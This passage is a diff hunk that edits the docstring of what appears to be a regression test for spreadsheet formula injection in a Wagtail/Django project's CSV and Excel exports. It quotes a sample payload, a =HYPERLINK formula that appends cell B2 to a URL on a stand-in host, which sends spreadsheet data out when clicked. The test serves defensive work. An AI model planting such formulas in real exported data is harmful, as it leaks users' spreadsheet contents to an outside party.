@@ -1,4 +1,4 @@
-"""Issue 13, item 6: an organization named =HYPERLINK("http://x.invalid/?"&B2,"详情")
+"""Formula injection: an organization named =HYPERLINK("http://x.invalid/?"&B2,"详情")
 was written as a live formula by every listing's CSV export. Every export path —
 each admin listing's CSV and Excel export (found through the registered viewsets,
 not a hand-kept list), Wagtail's own reports, and the workbooks built with
